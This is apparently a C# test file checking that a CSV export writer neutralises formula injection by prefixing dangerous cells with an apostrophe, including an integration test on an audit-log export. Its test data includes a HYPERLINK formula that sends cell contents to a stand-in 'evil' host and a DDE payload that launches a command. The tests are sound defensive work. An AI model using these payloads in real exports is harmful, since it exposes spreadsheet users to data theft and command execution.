using System.Net;
using TenantEvents.Infrastructure;
using TenantEvents.Infrastructure.Security;
using TenantEvents.Tests.Support;

namespace TenantEvents.Tests.Infrastructure;

/// <summary>The one CSV cell writer: RFC 4180 quoting and the guard against formula (CSV) injection.</summary>
public class CsvTextTests
{
    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("+1+2", "'+1+2")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+2", "'\t=1+2")]
    [InlineData("\r=1+2", "\"'\r=1+2\"")]
    [InlineData("\n=1+2", "\"'\n=1+2\"")]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("-2-3", "'-2-3")]
    [InlineData("-1e5", "'-1e5")]
    [InlineData("-", "'-")]
    [InlineData("-1.", "'-1.")]
    [InlineData("＝1+2", "'＝1+2")]
    [InlineData("-12", "-12")]
    [InlineData("-0.25", "-0.25")]
    [InlineData("plain", "plain")]
    [InlineData("a=b", "a=b")]
    [InlineData("with, comma", "\"with, comma\"")]
    [InlineData("", "")]
    public void a_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_text(string cell, string written) =>
        CsvText.Text(cell).ShouldBe(written);

    [Fact]
    public void numbers_stay_numbers_and_rows_end_in_crlf()
    {
        CsvText.Row([-1L, -0.25, 1.0 / 3, null, "x", "2026-12-03"]).ShouldBe("-1,-0.25,0.3333,,x,2026-12-03\r\n");
        CsvText.Cell(-42).ShouldBe("-42");
    }
}

/// <summary>From the attacker's side: a name a user controls (its subject) cannot become a formula in an auditor's export.</summary>
public class CsvInjectionTests(AppFixture fixture) : IntegrationTest(fixture)
{
    [Fact]
    public async Task an_actors_chosen_subject_reaches_the_audit_csv_as_text_not_as_a_formula()
    {
        var tenant = await Active();
        var root = await RootOf(tenant);
        string[] subjects = ["-1+2", "=1+2", "\tcmd|' /C calc'!A0"];
        foreach (var (subject, i) in subjects.Select((s, i) => (s, i)))
            (await As(Roles.TenantAdmin, subject, tenant).Post($"/api/tenants/{tenant}/organisations", new { parentId = root, name = $"Unit {i}", kind = "unit" }))
                .ShouldBe(HttpStatusCode.Created);

        var csv = (await As(Roles.Auditor, "carol").Get($"/api/tenants/{tenant}/audit/entries?format=csv")).ShouldBe(HttpStatusCode.OK).Body;
        foreach (var subject in subjects)
        {
            csv.ShouldContain($",'{subject},");
            csv.ShouldNotContain($",{subject},");
        }
    }
}
